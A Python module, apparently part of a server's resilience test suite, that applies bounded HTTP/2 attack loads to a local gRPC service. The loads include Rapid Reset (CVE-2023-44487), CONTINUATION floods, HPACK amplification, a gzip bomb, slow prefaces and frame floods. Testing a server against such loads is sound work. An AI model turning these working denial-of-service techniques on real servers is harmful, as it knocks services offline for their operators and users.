"""What a peer can do to an HTTP/2 server, as loads with a bound in count and time: raw frames over sockets.

A program of its own, because an attacker is another account and has a processor to itself: `Attack` starts it. It applies
a load, says what came of it, holds what it has until its input ends, and says it again. A load is a generator for each
connection: it yields the bytes to send next, b"" to wait for something from the server, seconds to pause.
"""

import argparse
import collections
import contextlib
import dataclasses
import errno
import itertools
import json
import os
import pathlib
import resource
import select
import socket
import struct
import subprocess
import sys
import time
import zlib

import hpack

NOBODY = 65534
KIB, MIB, GIB = 1 << 10, 1 << 20, 1 << 30

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 4, 5
CANCEL = 8
WINDOW_DEFAULT, WINDOW_MAX = 65_535, (1 << 31) - 1

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LOGIN = "/grpc_os.v1.AuthService/Login"
WHO_AM_I = "/grpc_os.v1.AuthService/WhoAmI"
LIST_PROCESSES = "/grpc_os.v1.ProcessService/ListProcesses"
WAIT_PROCESS = "/grpc_os.v1.ProcessService/WaitProcess"
READ_OBJECT = "/grpc_os.v1.FilesystemService/ReadObject"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

# WaitProcessRequest: "lasting", CONDITION_EXITED.
WAIT_FOR_LASTING = b"\x0a\x07lasting\x10\x03"

# A load that neither sends nor gets anything for so long has done what it can.
QUIET_S = 1.0
READ_BYTES = 256 * KIB
BATCH_BYTES = 64 * KIB
ZEROS = bytes(16 * KIB)


def frame(kind, flags, stream, payload=b"", length=None):
    """`length`: what it claims to have."""
    length = len(payload) if length is None else length
    return struct.pack(">BHBBI", length >> 16, length & 0xFFFF, kind, flags, stream) + payload


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def window_update(stream, increment):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def header_block(path, *more):
    """Changes no table: good for any stream of any connection."""
    pairs = ((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"))
    pairs += (("content-type", "application/grpc"), ("te", "trailers"), *more)
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*pair) for pair in pairs])


def integer(prefix_bits, first, value):
    """RFC 7541, 5.1."""
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    out = bytearray([first | most])
    value -= most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out) + bytes([value])


def fragments(block):
    """Of a header block, as (frame type, its flags, bytes)."""
    for at in range(0, len(block), len(ZEROS)):
        last = at + len(ZEROS) >= len(block)
        yield (CONTINUATION if at else HEADERS), (END_HEADERS if last else 0), block[at : at + len(ZEROS)]


def message(payload, length=None, compressed=False):
    return struct.pack(">BI", compressed, len(payload) if length is None else length) + payload


class Connection:
    """One end of HTTP/2 that keeps the rules that its load does not break. `allowed[stream]`: what the server takes there."""

    def __init__(self, sock, outcome, *, acknowledges=True, reads=True, opening=()):
        self.socket = sock
        self.reads = reads
        self.opened = False  # its SETTINGS have come
        self.pongs = 0
        self.allowed = collections.defaultdict(lambda: self._initial_window, {0: WINDOW_DEFAULT})
        self.ended = set()
        self._opening = opening
        self._acknowledges = acknowledges
        self._outcome = outcome
        self._initial_window = WINDOW_DEFAULT
        self._streams = itertools.count(1, 2)
        self._decoder = hpack.Decoder()
        self._received = bytearray()

    def hello(self):
        return PREFACE + settings(*self._opening)

    def request(self, block, flags=0):
        """(stream, its HEADERS)."""
        stream = next(self._streams)
        return stream, frame(HEADERS, END_HEADERS | flags, stream, block)

    def fill(self, contents, last=0):
        """Sends {stream: bytes}, all streams by turns and each as far as the server takes it; `last`: the flags at the end."""
        at = dict.fromkeys(contents, 0)
        while at:
            out = bytearray()
            for stream in list(at):
                if len(out) >= BATCH_BYTES:
                    break
                begin = at.pop(stream)
                size = min(len(contents[stream]) - begin, self.allowed[0], self.allowed[stream], len(ZEROS))
                size = max(size, 0)  # a window may be less than nothing
                if size > 0:
                    flags = last if begin + size == len(contents[stream]) else 0
                    out += frame(DATA, flags, stream, contents[stream][begin : begin + size])
                    self.allowed[0] -= size
                    self.allowed[stream] -= size
                if stream not in self.ended and begin + size < len(contents[stream]):
                    at[stream] = begin + size
            yield bytes(out)

    def receive(self):
        """Takes what there is; gives what it must be answered with. OSError if it is cut."""
        data = self.socket.recv(READ_BYTES)
        if not data:
            raise ConnectionResetError
        self._received += data
        out, at = bytearray(), 0
        while len(self._received) - at >= 9:
            high, low, kind, flags, stream = struct.unpack_from(">BHBBI", self._received, at)
            end = at + 9 + (high << 16 | low)
            if len(self._received) < end:
                break
            out += self._take(kind, flags, stream, bytes(self._received[at + 9 : end]))
            at = end
        del self._received[:at]
        return bytes(out)

    def _take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            self.opened = True
            for key, value in struct.iter_unpack(">HI", payload):
                if key == INITIAL_WINDOW_SIZE:
                    for known in self.allowed.keys() - {0}:
                        self.allowed[known] += value - self._initial_window
                    self._initial_window = value
            return frame(SETTINGS, ACK, 0) if self._acknowledges else b""
        if kind == PING and not flags & ACK:
            return frame(PING, ACK, 0, payload)
        if kind == PING:
            self.pongs += 1
        if kind == WINDOW_UPDATE:
            self.allowed[stream] += int.from_bytes(payload, "big")
        elif kind == GOAWAY:
            self._outcome.goaways[int.from_bytes(payload[4:8], "big")] += 1
        elif kind == RST_STREAM:
            self._outcome.resets[int.from_bytes(payload, "big")] += 1
            self.ended.add(stream)
        elif kind == HEADERS:
            headers = dict(self._decoder.decode(payload))
            if "grpc-status" in headers:
                self._outcome.statuses[int(headers["grpc-status"])] += 1
        if kind in (DATA, HEADERS) and flags & END_STREAM:
            self.ended.add(stream)
        return b""


@dataclasses.dataclass
class Outcome:
    connected: int = 0
    refused: int = 0  # connects
    cut: int = 0  # connections, by the server
    open: int = 0  # connections now
    sent: int = 0  # bytes
    goaways: collections.Counter = dataclasses.field(default_factory=collections.Counter)  # by error code
    resets: collections.Counter = dataclasses.field(default_factory=collections.Counter)  # of streams, by error code
    statuses: collections.Counter = dataclasses.field(default_factory=collections.Counter)  # by gRPC's code


class Load:
    """Many connections, each with its generator, by turns to each of `targets` (paths of Unix sockets, ports of loopback)."""

    def __init__(self, targets, seconds, token):
        self.outcome = Outcome()
        self.token = token
        self._targets = itertools.cycle(targets)
        self._end = time.monotonic() + seconds
        self._poll = select.epoll()
        self._runs = {}  # descriptor -> Run
        self._to_open = collections.deque()
        self._places = 0

    def run(self, script, connections, total=None, closes=False, **options):
        """`total` of them, `connections` at a time: where one is cut (or done, if it `closes` then), another takes its
        place."""
        self._to_open.extend([(script, closes, options)] * (total or connections))
        self._places += connections

    def authorized(self, path):
        return header_block(path, ("authorization", f"Bearer {self.token}"))

    def apply(self):
        """Goes on until there is no more to do, nothing goes on, or the time is over."""
        progress = time.monotonic()
        while (self._to_open or any(not run.done for run in self._runs.values())) and time.monotonic() < self._end:
            if self.turn():
                progress = time.monotonic()
            elif time.monotonic() - progress > QUIET_S:
                break

    def turn(self):
        """Whether anything went on, or will at a time that is known."""
        went_on = self._open_more()
        for descriptor, events in self._poll.poll(0.01):
            run = self._runs[descriptor]
            try:
                went_on |= self._serve(run, events)
            except OSError:
                with contextlib.suppress(OSError):
                    while True:  # what it said before
                        run.connection.receive()
                self._close(run)
                self.outcome.cut += 1
                went_on = True
        now = time.monotonic()
        for run in self._runs.values():
            if run.pause_until is not None:
                went_on = True
                if run.pause_until <= now:
                    run.pause_until = None
                    self._watch(run)
        self.outcome.open = len(self._runs)
        return went_on

    def _open_more(self):
        opened = False
        while self._to_open and len(self._runs) < self._places and time.monotonic() < self._end:
            target = next(self._targets)
            sock = socket.socket(socket.AF_INET if isinstance(target, int) else socket.AF_UNIX)
            sock.setblocking(False)
            error = sock.connect_ex(("127.0.0.1", target) if isinstance(target, int) else target)
            if error not in (0, errno.EINPROGRESS):
                sock.close()
                self.outcome.refused += 1
                break  # later
            script, closes, options = self._to_open.popleft()
            connection = Connection(sock, self.outcome, **options)
            run = Run(connection, script(connection), closes)
            self._runs[sock.fileno()] = run
            self._poll.register(sock.fileno(), 0)
            self._watch(run)
            self.outcome.connected += 1
            opened = True
        return opened

    def _serve(self, run, events):
        went_on = False
        if events & select.EPOLLIN and run.connection.reads:
            run.replies += run.connection.receive()
            went_on = True
            run.waits = False
        elif events & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP):
            raise ConnectionResetError
        if not run.out and run.replies and run.begun:
            run.out, run.replies = memoryview(bytes(run.replies)), bytearray()
        if not run.out and not run.waits and run.pause_until is None:
            self._advance(run)
        if run.out:
            with contextlib.suppress(BlockingIOError):
                sent = run.connection.socket.send(run.out)
                run.out = run.out[sent:]
                self.outcome.sent += sent
                went_on = True
        if run.done and run.closes and not run.out:
            self._close(run)
        else:
            self._watch(run)
        return went_on

    def _advance(self, run):
        try:
            step = next(run.script)
        except StopIteration:
            run.done = run.waits = True
            return
        if isinstance(step, float):
            run.pause_until = time.monotonic() + step
        elif step:
            run.out = memoryview(step)
            run.begun = True
        else:
            run.waits = True

    def _watch(self, run):
        wants = select.EPOLLIN if run.connection.reads else select.EPOLLRDHUP
        if run.out or (run.replies and run.begun) or not (run.waits or run.pause_until is not None):
            wants |= select.EPOLLOUT
        self._poll.modify(run.connection.socket.fileno(), wants)

    def _close(self, run):
        del self._runs[run.connection.socket.fileno()]
        run.connection.socket.close()


@dataclasses.dataclass
class Run:
    connection: Connection
    script: object
    closes: bool
    out: memoryview = memoryview(b"")
    replies: bytearray = dataclasses.field(default_factory=bytearray)
    begun: bool = False  # nothing is replied before the preface
    waits: bool = False
    done: bool = False
    pause_until: float | None = None


# ---- Headers ---------------------------------------------------------------------------------------------------------------


def _headers(c, block):
    """One request with a header block of any size."""
    stream, _ = c.request(b"")
    for kind, flags, part in fragments(block):
        yield frame(kind, flags, stream, part)


def amplified_headers(load, connections, streams, references, value_bytes):
    """A header, and each byte after it stands for it once more."""
    kept = b"\x40\x01x" + integer(7, 0, value_bytes) + b"v" * value_bytes
    block = header_block(LOGIN) + kept + b"\xbe" * references

    def script(c):
        yield c.hello()
        for _ in range(streams):
            yield from _headers(c, block)

    load.run(script, connections)


def long_header_strings(load, connections, string_bytes, strings=1):
    """Values of this length; of every second connection in Huffman's code, in which a zero has five bits."""
    strings_of = [(b"\0\1x" + integer(7, kind, string_bytes) + bytes(string_bytes)) * strings for kind in (0, 0x80)]
    blocks = itertools.cycle([header_block(LOGIN) + some for some in strings_of])

    def script(c):
        yield c.hello()
        yield from _headers(c, next(blocks))

    load.run(script, connections)


def endless_continuation(load, connections, frames):
    """Header blocks that do not end: of empty frames, and of frames with one header each."""
    parts = itertools.cycle((b"", b"\x90"))  # accept-encoding: gzip, deflate

    def script(c):
        stream, _ = c.request(b"")
        more = frame(CONTINUATION, 0, stream, next(parts)) * 1000
        yield c.hello() + frame(HEADERS, 0, stream, header_block(LOGIN))
        for _ in range(frames // 1000):
            yield more

    load.run(script, connections)


# ---- Messages --------------------------------------------------------------------------------------------------------------


def gzip_bomb(load, connections, streams, inflated):
    """Zeros by the GiB, in a message of a size that is allowed."""
    pack = zlib.compressobj(9, wbits=31)
    block = pack.compress(bytes(MIB)) + pack.flush(zlib.Z_FULL_FLUSH)
    repeated = pack.compress(bytes(MIB)) + pack.flush(zlib.Z_FULL_FLUSH)
    body = message(block + repeated * (inflated // MIB - 1), compressed=True)
    headers = header_block(LOGIN, ("grpc-encoding", "gzip"))

    def script(c):
        yield c.hello()
        contents = {}
        for _ in range(streams):
            stream, opening = c.request(headers)
            contents[stream] = body
            yield opening
        yield from c.fill(contents, END_STREAM)

    load.run(script, connections)


def half_sent(load, connections, streams, claimed, sent=None, again=1):
    """Messages whose last byte never comes, or that claim more than is ever sent. `again`: so often, when cut."""
    body = message(bytes((claimed if sent is None else sent) - 1), length=claimed)

    def script(c):
        yield c.hello()
        contents = {}
        for _ in range(streams):
            stream, opening = c.request(header_block(LOGIN))
            contents[stream] = body
            yield opening
        yield from c.fill(contents)

    load.run(script, connections, total=connections * again)


def unread_answers(load, connections, streams, method, window):
    """Asks for much and takes none of it: no window is given, or so much that the kernel's buffers are full first."""
    requests = {
        # Of two processes with 1 MiB of variables each: 2 MiB.
        "list": (load.authorized(LIST_PROCESSES), [message(b"")], END_STREAM),
        "read": (load.authorized(READ_OBJECT), [message(b"\x0a\x04/big")], END_STREAM),
        # A stranger's: the file of a service, again and again on one stream.
        "reflect": (header_block(REFLECTION), [message(b"\x22\x19grpc_os.v1.ProcessService")] * 200, 0),
    }
    block, messages, last = requests[method]
    body = b"".join(messages)

    def script(c):
        yield c.hello() + window_update(0, WINDOW_MAX - WINDOW_DEFAULT)
        for _ in range(streams):
            stream, opening = c.request(block)
            yield opening + frame(DATA, last, stream, body)

    load.run(script, connections, reads=window == 0, opening=[(INITIAL_WINDOW_SIZE, window)])


# ---- Streams ---------------------------------------------------------------------------------------------------------------


def short_streams(load, connections, streams, ends, again=1, batch=100):
    """A flood of calls, each of which ends at once: by a "reset" of the client (CVE-2023-44487), by one that the server is
    brought to by an "overflow" of a window (CVE-2025-8671), or by a "refusal" that is never read."""
    block, flags = header_block(LIST_PROCESSES), END_STREAM if ends == "refusal" else 0
    end = {"reset": reset, "overflow": lambda stream: window_update(stream, WINDOW_MAX), "refusal": lambda _: b""}[ends]

    def script(c):
        yield c.hello()
        for _ in range(streams // batch):
            out = bytearray()
            for _ in range(batch):
                stream, opening = c.request(block, flags)
                out += opening + end(stream)
            yield bytes(out)
            while ends == "overflow" and stream not in c.ended:
                yield b""

    load.run(script, connections, total=connections * again, reads=ends != "refusal")


def cancelled_calls(load, bursts):
    """Of somebody honest: at once, and when the server has seen them; then one that is answered."""
    wait = load.authorized(WAIT_PROCESS)

    def script(c):
        yield c.hello()
        for calls_at_once, seen in ((1, False), (100, True)):
            for _ in range(bursts * 100 // calls_at_once):
                calls = [c.request(wait) for _ in range(calls_at_once)]
                yield b"".join(opening + frame(DATA, END_STREAM, stream, message(WAIT_FOR_LASTING)) for stream, opening in calls)
                if seen:
                    pongs = c.pongs
                    yield frame(PING, 0, 0, bytes(8))
                    while c.pongs == pongs:
                        yield b""
                yield b"".join(reset(stream) for stream, _ in calls)
        stream, opening = c.request(load.authorized(WHO_AM_I))
        yield opening + frame(DATA, END_STREAM, stream, message(b""))
        while stream not in c.ended:
            yield b""

    load.run(script, 1)


def no_settings_ack(load, connections, streams):
    """The server's limits are never acknowledged."""

    def script(c):
        yield c.hello()
        for _ in range(streams):
            stream, opening = c.request(header_block(LOGIN))
            yield opening + frame(DATA, 0, stream, message(b"", length=MIB))
        while True:
            yield 0.5

    load.run(script, connections, acknowledges=False)


def window_games(load, connections, rounds, streams=50):
    """Each on `connections`: overflows, zeros, answers by the byte, windows that all shrink and grow at once."""
    ask = load.authorized(LIST_PROCESSES)

    def opened(c):
        yield c.hello()
        for _ in range(streams):
            stream, opening = c.request(ask)
            yield opening + frame(DATA, END_STREAM, stream, message(b""))

    def grow(c):
        yield from opened(c)
        for _ in range(rounds):
            yield (window_update(0, 1) + window_update(1, 1)) * 1000

    def overflow(c):
        yield from opened(c)
        yield window_update(1, WINDOW_MAX) * 2 + window_update(0, WINDOW_MAX) * 2

    def nothing(c):
        yield from opened(c)
        yield window_update(1, 0) + window_update(0, 0)

    def shrink_and_grow(c):
        yield from opened(c)
        for _ in range(rounds):
            yield (settings((INITIAL_WINDOW_SIZE, WINDOW_MAX)) + settings((INITIAL_WINDOW_SIZE, 0))) * 50

    for script in (grow, overflow, nothing, shrink_and_grow):
        load.run(script, connections, opening=[(INITIAL_WINDOW_SIZE, 0)])


def flood(load, connections, what, frames, reads=True, again=1):
    """One cheap frame, again and again."""
    kinds = {
        "ping": frame(PING, 0, 0, b"whatever"),
        "settings": settings(),
        "priority": frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15)),
        "empty_data": frame(DATA, 0, 1),
        "unknown": frame(0xFA, 0, 0, b"whatever"),
    }
    block = kinds[what] * 1000

    def script(c):
        stream, opening = c.request(header_block(LOGIN))
        assert stream == 1
        yield c.hello() + opening
        for _ in range(frames // 1000):
            yield block

    load.run(script, connections, total=connections * again, reads=reads)


# ---- Connections -----------------------------------------------------------------------------------------------------------


def slow_preface(load, connections):
    """A byte a second; and connections that say nothing at all."""

    def slow(c):
        for byte in c.hello():
            yield bytes([byte])
            yield 1.0

    def silent(c):
        while True:
            yield 1.0

    for script in (slow, silent):
        load.run(script, connections, acknowledges=False)


def connects(load, connections, total):
    """Each comes, is greeted and goes."""

    def script(c):
        yield c.hello()
        while not c.opened:
            yield b""
        yield 0.02

    load.run(script, connections, total=total, closes=True)


def idle(load, connections):
    def script(c):
        yield c.hello()

    load.run(script, connections)


def garbage(load, connections):
    """What is not HTTP/2, or is not long."""
    beginnings = itertools.cycle(
        [
            b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * MIB,
            b"\x16\x03\x01\xff\xff\x01\x00\xff\xfb\x03\x03" + bytes(64 * KIB),
            PREFACE + frame(DATA, 0, 1, length=(1 << 24) - 1) + bytes(MIB),
            PREFACE + settings() + frame(PUSH_PROMISE, END_HEADERS, 1, bytes(64)),
            PREFACE + settings((MAX_FRAME_SIZE, 1), (INITIAL_WINDOW_SIZE, 1 << 31)),
        ]
    )

    def script(c):
        yield next(beginnings)

    load.run(script, connections)


LOADS = {
    load.__name__: load
    for load in (
        *(amplified_headers, long_header_strings, endless_continuation),
        *(gzip_bomb, half_sent, unread_answers),
        *(short_streams, cancelled_calls, no_settings_ack, window_games, flood),
        *(slow_preface, connects, idle, garbage),
    )
}


# ---- The program, and who starts it ------------------------------------------------------------------------------------------


class Attack:
    """A load that was applied and is held until the block ends: `at_peak`, then `at_end` say what came of it."""

    def __init__(self, name, targets, seconds, token="", **sizes):
        self._patience_s = seconds + 60
        what = json.dumps({"name": name, "targets": targets, "seconds": seconds, "token": token, "sizes": sizes})
        self._process = subprocess.Popen(
            [sys.executable, pathlib.Path(__file__), what], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        )
        self.at_peak = self.at_end = None

    def apply(self):
        """Returns when it has done what it can."""
        said = self._process.stdout.readline()
        assert said, "the attack has failed"
        self.at_peak = json.loads(said)

    def end(self):
        said, _ = self._process.communicate(timeout=self._patience_s)
        assert self._process.returncode == 0
        self.at_end = json.loads(said)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        if self._process.returncode is None:
            self._process.kill()
            self._process.communicate()


def _say(load):
    print(json.dumps(vars(load.outcome)), flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("what", type=json.loads)
    what = parser.parse_args().what
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    load = Load(what["targets"], what["seconds"], what["token"])
    LOADS[what["name"]](load, **what["sizes"])
    load.apply()
    _say(load)
    while not select.select([sys.stdin], [], [], 0)[0]:
        load.turn()
    _say(load)


if __name__ == "__main__":
    main()
